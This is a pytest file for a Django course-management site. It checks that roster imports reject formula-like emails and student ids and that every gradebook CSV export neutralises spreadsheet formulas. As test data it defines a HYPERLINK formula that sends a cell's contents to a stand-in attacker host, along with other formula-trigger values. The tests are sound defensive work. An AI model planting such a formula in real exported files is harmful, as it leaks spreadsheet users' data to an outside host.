"""Issue #12, item 10: no cell of a CSV the site writes opens as a formula in a spreadsheet.

Rosters refuse emails and student ids that start with a formula trigger (an LMS file must carry
the identifier it matches on as it is, so refusing it at the door is the defence). Every other
text cell is neutralised with a leading apostrophe (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from exercises.courses.models import Membership, StudentProfile
from exercises.courses.services.accounts import membership_create
from exercises.courses.spreadsheet import FORMULA_TRIGGERS
from exercises.gradebook.models import LmsColumnLink
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://e.vil/?"&A2,"x")'


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


def _formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


@pytest.fixture
def prof_course():
    c = factories.course(code="calc")
    prof = factories.user(username="prof")
    membership_create(course=c, user=prof, role=Membership.Role.INSTRUCTOR)
    return c, prof


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (f'Eve,eve@example.edu,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"', "student id"),
        ("Eve,eve@example.edu,@SUM(A1)", "student id"),
        ("Eve,eve@example.edu,+821012345678", "student id"),
        ("Eve,eve@example.edu,-2024001", "student id"),
        ("Eve,=cmd@example.edu,2024001", "email"),
        ("Eve,-eve@example.edu,2024001", "email"),
        ("Eve,+eve@example.edu,2024001", "email"),
    ],
)
def test_roster_with_a_formula_id_or_email_is_refused(client, prof_course, row, message):
    course, prof = prof_course
    client.force_login(prof)
    url = reverse("courses:course-roster-import", args=[course.pk])
    text = f"name,email,student id\n{row}\n"
    preview = client.post(url, {"roster": SimpleUploadedFile("r.csv", text.encode(), "text/csv")})
    assert preview.status_code == 400
    assert "a spreadsheet would read it as a formula" in preview.content.decode()
    assert f"The {message} " in preview.content.decode()
    assert client.post(url, {"text": text}).status_code == 400  # the confirm step checks again
    assert not get_user_model().objects.filter(first_name="Eve").exists()


def test_signin_links_csv_neutralises_every_cell(client, prof_course):
    course, prof = prof_course
    client.force_login(prof)
    url = reverse("courses:course-roster-import", args=[course.pk])
    client.post(url, {"text": "name,email\nEve,eve@example.edu\n"})
    # An account changed afterwards (by an administrator, or before rosters refused these).
    eve = get_user_model().objects.get(email="eve@example.edu")
    eve.first_name, eve.email, eve.username = HYPERLINK, "-eve@example.edu", "+eve@example.edu"
    eve.save()
    response = client.get(reverse("courses:course-signin-links", args=[course.pk]))
    rows = _cells(response.content)
    assert _formulas(rows) == []
    assert rows[1][:3] == ["'" + HYPERLINK, "'-eve@example.edu", "'+eve@example.edu"]


@pytest.fixture
def hostile_gradebook(prof_course):
    """A student whose name and email start like formulas, a set whose title does, a score."""
    course, prof = prof_course
    student = factories.student(in_course=course, username="eve")
    student.first_name, student.email = HYPERLINK, "-eve@example.edu"
    student.save()
    problem_set = factories.problem_set(in_course=course)
    problem_set.title_en = "=1+1"
    problem_set.save()
    item = factories.item(in_set=problem_set)
    factories.graded(factories.instance(for_item=item, for_student=student), "3x^2 + y")
    # What a filled Blackboard file and the roster give: a column id, a student id.
    LmsColumnLink.objects.create(problem_set=problem_set, lms="blackboard", lms_id="664617")
    StudentProfile.objects.update_or_create(user=student, defaults={"student_id": "2024001"})
    return course, prof


def _download(client, course, **query):
    params = {"attempt": "best", "late_penalty": "yes", "problem_set": "", **query}
    url = reverse("gradebook:course-grades-download", args=[course.pk])
    response = client.get(url, params)
    assert response.status_code == 200
    return _cells(b"".join(response.streaming_content))


@pytest.mark.parametrize(
    "query",
    [
        {"lms": "canvas"},
        {"lms": "moodle", "moodle_key": "username"},
        {"lms": "moodle", "moodle_key": "idnumber"},
        {"lms": "blackboard"},
        {"lms": "brightspace"},
        {"lms": "plain"},
    ],
    ids=["canvas", "moodle-username", "moodle-idnumber", "blackboard", "brightspace", "plain"],
)
def test_every_export_format_writes_no_formula_cell(client, hostile_gradebook, query):
    course, prof = hostile_gradebook
    client.force_login(prof)
    rows = _download(client, course, **query)
    assert _formulas(rows) == []
    assert "2" in rows[-1]  # the score is still a number


def test_moodle_by_email_keeps_the_email_it_matches_on_and_says_so(client, hostile_gradebook):
    """The one cell written as it is: the identifier the LMS matches the row on (here Moodle's
    email). Rosters no longer accept such an email; the export page warns about any left."""
    course, prof = hostile_gradebook
    client.force_login(prof)
    rows = _download(client, course, lms="moodle", moodle_key="email")
    assert _formulas(rows) == ["-eve@example.edu"]
    page = client.get(
        reverse("gradebook:course-grades-export", args=[course.pk]),
        {"lms": "moodle", "moodle_key": "email", "attempt": "best", "late_penalty": "yes"},
    )
    assert "identifier &#x27;-eve@example.edu&#x27; starts like a formula" in page.content.decode()
